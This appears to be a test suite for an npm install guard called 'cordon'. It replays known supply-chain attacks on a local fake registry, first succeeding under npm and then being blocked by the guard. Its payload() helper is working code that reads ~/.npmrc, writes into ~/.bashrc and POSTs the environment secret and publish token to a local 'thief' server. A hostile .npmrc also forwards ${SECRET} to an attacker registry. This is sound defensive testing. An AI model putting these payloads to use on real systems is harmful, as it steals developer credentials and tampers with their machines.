// What poisoned packages did while they were installed, replayed harmlessly: each is seen to succeed with npm, whose scripts
// run, on the same registry, and is stopped by cordon with a message that says what happened.
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { test } from "node:test";
import { makeProject, type Outcome, start } from "../harness/index.ts";
import { tarball, type Packages, type Version } from "../registry/index.ts";
import { makeWorld, type World } from "./world.ts";

const project = (dependencies: Record<string, string>): object => ({ name: "project", version: "1.0.0", dependencies });
type Owner = Parameters<typeof makeWorld>[0];

/** Who waits for what is stolen. */
type Thief = { readonly url: string; readonly loot: string[]; serve(path: string, bytes: Buffer): void };

async function startThief(owner: Owner): Promise<Thief> {
  const loot: string[] = [];
  const goods = new Map<string, Buffer>();
  const server = createServer((request, response) => {
    const parts: Buffer[] = [];
    request.on("data", (part: Buffer) => parts.push(part));
    request.on("end", () => {
      const found = goods.get(request.url ?? "");
      if (found === undefined) loot.push(`${request.url ?? ""} ${request.headers.authorization ?? ""} ${Buffer.concat(parts).toString("utf8")}`);
      response.end(found);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  owner.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, loot, serve: (path, bytes) => void goods.set(path, bytes) };
}

/** A script that sends the environment and the user's .npmrc away, and leaves its mark in HOME. */
function payload(thief: Thief): string {
  return [
    "const fs = require('fs'), home = process.env.HOME;",
    "const npmrc = (() => { try { return fs.readFileSync(home + '/.npmrc', 'utf8') } catch { return '' } })();",
    "fs.appendFileSync(home + '/.bashrc', 'owned\\n');",
    `require('http').request('${thief.url}/loot', { method: 'POST' }).end(JSON.stringify({ secret: process.env.SECRET, npmrc }));`,
  ].join("\n");
}

const poisoned = (thief: Thief, script: string, more: object = {}): Version => ({ manifest: { scripts: { [script]: "node setup.js" }, ...more }, files: { "setup.js": payload(thief), "index.js": "" } });

/** npm with its scripts, and the secrets that a developer's machine has. */
function npm(world: World, ...args: string[]): Promise<Outcome> {
  world.home.write({ ".npmrc": "//registry.example/:_authToken=publish-token\n" });
  const settings = { NPM_CONFIG_REGISTRY: world.registry.url, NPM_CONFIG_USERCONFIG: world.home.path(".npmrc"), NPM_CONFIG_UPDATE_NOTIFIER: "false", NPM_CONFIG_IGNORE_SCRIPTS: "false" };
  return start("npm", [...args, "--no-audit", "--no-fund"], { cwd: world.project.folder, env: { HOME: world.home.folder, SECRET: "environment-secret", ...settings } }).ended;
}

function cordon(world: World, ...args: string[]): Promise<Outcome> {
  world.home.write({ ".npmrc": "//registry.example/:_authToken=publish-token\n" });
  return world.cordon(args, { env: { SECRET: "environment-secret" } });
}

/** What the payload did: sent both secrets, and wrote into HOME. */
function succeeded(world: World, thief: Thief): boolean {
  const sent = thief.loot.some((text) => text.includes("environment-secret") && text.includes("publish-token"));
  return sent && marks(world).startsWith("owned\n");
}

/** What the payload left in HOME. */
function marks(world: World): string {
  const file = world.home.path(".bashrc");
  return existsSync(file) ? readFileSync(file, "utf8") : "";
}

type Replay = {
  readonly packages: (thief: Thief, owner: Owner) => Promise<Packages> | Packages;
  readonly wants: Record<string, string>;
  /** What cordon says. */
  readonly said: RegExp;
  readonly code: number;
  readonly flags?: readonly string[];
};

async function replay(owner: Owner, { packages, wants, said, code, flags = [] }: Replay): Promise<void> {
  const thief = await startThief(owner);
  const held = await packages(thief, owner);
  const bare = await makeWorld(owner, held, { "package.json": project(wants) });
  const outcome = await npm(bare, "install");
  assert.ok(succeeded(bare, thief), `the attack works with npm: ${outcome.stderr} ${thief.loot.join()}`);
  thief.loot.length = 0;
  const world = await makeWorld(owner, held, { "package.json": project(wants) });
  const stopped = await cordon(world, "install", ...flags);
  assert.equal(stopped.code, code, stopped.stderr);
  assert.match(stopped.stdout + stopped.stderr, said);
  assert.deepEqual(thief.loot, []);
  assert.equal(marks(world), "");
}

test("an install script that steals tokens (eslint-scope 2018, ua-parser-js 2021, Shai-Hulud 2025)", async (t) => {
  for (const script of ["preinstall", "install", "postinstall"]) {
    await replay(t, { packages: (thief) => ({ a: { versions: { "1.0.0": poisoned(thief, script) } } }), wants: { a: "1" }, code: 0, said: new RegExp(`1 package wanted to run scripts, and cordon runs none:\\n {2}a@1\\.0\\.0 \\(${script}\\)`) });
  }
});

test("a dependency that is never imported, with a postinstall (event-stream 2018, axios 2026)", async (t) => {
  const packages = (thief: Thief): Packages => ({ a: { versions: { "1.0.0": { manifest: { dependencies: { "plain-crypto-js": "1" } } } } }, "plain-crypto-js": { versions: { "1.0.0": poisoned(thief, "postinstall") } } });
  await replay(t, { packages, wants: { a: "1" }, code: 0, said: /plain-crypto-js@1\.0\.0 \(postinstall\)/ });
});

test("a name that is typed wrong (crossenv 2017)", async (t) => {
  const packages = (thief: Thief): Packages => ({ crossenv: { versions: { "1.0.0": poisoned(thief, "postinstall") } } });
  await replay(t, { packages, wants: { crossenv: "1" }, flags: ["--strict"], code: 1, said: /suspicious: crossenv looks like cross-env, and is not it/ });
});

test("a version that was published an hour ago (axios 2026, TanStack 2026)", async (t) => {
  const packages = (thief: Thief): Packages => ({ a: { versions: { "1.0.0": {}, "1.0.1": { ...poisoned(thief, "postinstall"), age: 1 } } } });
  await replay(t, { packages, wants: { a: "^1.0.0" }, code: 0, said: /a 1\.0\.1 is 1 hour old and passed over for 1\.0\.0; --accept-new=a takes it/ });
});

test("a dependency behind an address that only the attacker's package names", async (t) => {
  const packages = (thief: Thief): Packages => {
    const content = { "package.json": JSON.stringify({ name: "b", version: "1.0.0", scripts: { postinstall: "node setup.js" } }), "setup.js": payload(thief) };
    thief.serve("/b.tgz", tarball(Object.entries(content).map(([path, text]) => ({ path: `package/${path}`, content: text }))));
    return { a: { versions: { "1.0.0": { manifest: { dependencies: { b: `${thief.url}/b.tgz` } } } } } };
  };
  await replay(t, { packages, wants: { a: "1" }, code: 1, said: /Cannot take b@http.*asked for by node_modules\/a.*a dependency may not name packages by address or path/ });
});

test("a dependency in a git repository, which is made by its scripts", async (t) => {
  const packages = async (thief: Thief, owner: Owner): Promise<Packages> => {
    const repository = makeProject(owner, { "package.json": { name: "b", version: "1.0.0", scripts: { prepare: "node setup.js" } }, "setup.js": payload(thief) });
    for (const words of [["init", "-q"], ["add", "."], ["-c", "user.name=x", "-c", "user.email=x@example", "commit", "-qm", "x"]]) {
      const outcome = await start("git", words, { cwd: repository.folder }).ended;
      assert.equal(outcome.code, 0, outcome.stderr);
    }
    return { a: { versions: { "1.0.0": { manifest: { dependencies: { b: `git+file://${repository.folder}` } } } } } };
  };
  await replay(t, { packages, wants: { a: "1" }, code: 1, said: /Cannot take b@git\+file.*asked for by node_modules\/a.*git repositories/ });
});

test("a stolen token publishes a version: from another account, without provenance, with a script", async (t) => {
  const old: Version = { by: "owner", isAttested: true };
  const thief = await startThief(t);
  const world = await makeWorld(t, { a: { versions: { "1.0.0": old } } }, { "package.json": project({ a: "^1.0.0" }) });
  assert.equal((await cordon(world, "install")).code, 0);
  world.registry.hold({ a: { versions: { "1.0.0": old, "1.0.1": { ...poisoned(thief, "postinstall"), by: "thief" } } } });
  const lockfile = world.read("package-lock.json");
  const stopped = await cordon(world, "update", "--strict");
  assert.equal(stopped.code, 1);
  assert.match(stopped.stderr, /suspicious: a 1\.0\.1, instead of 1\.0\.0, was published by thief, who was not among those who could before/);
  assert.match(stopped.stderr, /suspicious: a 1\.0\.1, instead of 1\.0\.0, no longer says from which source it was built \(provenance\)/);
  assert.match(stopped.stderr, /suspicious: a 1\.0\.1, instead of 1\.0\.0, has an install script now; cordon does not run it/);
  assert.equal(world.read("package-lock.json"), lockfile);
  assert.deepEqual(thief.loot, []);
});

test("a project that sends the user's variables to a registry of its own", async (t) => {
  const thief = await startThief(t);
  const host = new URL(thief.url).host;
  const npmrc = `@evil:registry=${thief.url}/\n//${host}/:_authToken=\${SECRET}\n`;
  const files = { "package.json": project({ "@evil/a": "1" }), ".npmrc": npmrc };
  const bare = await makeWorld(t, {}, files);
  await npm(bare, "install");
  assert.ok(thief.loot.some((text) => text.includes("environment-secret")), "npm sends it");
  thief.loot.length = 0;
  const world = await makeWorld(t, {}, files);
  const outcome = await cordon(world, "install");
  assert.notEqual(outcome.code, 0);
  assert.match(outcome.stderr, /\.npmrc holds a token or password, which is not used|\.npmrc names variables for .*which are not used/);
  assert.ok(thief.loot.length > 0 && !thief.loot.join().includes("environment-secret"), thief.loot.join());
});

test("an internal name that somebody publishes with a higher version (dependency confusion 2021)", async (t) => {
  const thief = await startThief(t);
  const confused = { "@corp/secret": { versions: { "99.0.0": poisoned(thief, "preinstall") } } };
  const bare = await makeWorld(t, confused, { "package.json": project({ "@corp/secret": "*" }) });
  await npm(bare, "install");
  assert.ok(succeeded(bare, thief), "npm asks the public registry");
  thief.loot.length = 0;
  const world = await makeWorld(t, confused, { "package.json": project({ "@corp/secret": "*" }) });
  const corp = await makeWorld(t, { "@corp/secret": { versions: { "1.0.0": {} } } }, {});
  world.home.write({ ".npmrc": `@corp:registry=${corp.registry.url}\n` });
  const outcome = await world.cordon(["install"]);
  assert.equal(outcome.code, 0, outcome.stderr);
  assert.deepEqual(world.registry.seen, []);
  assert.match(world.read("package-lock.json") ?? "", /"version": "1\.0\.0"/);
  assert.deepEqual(thief.loot, []);
});
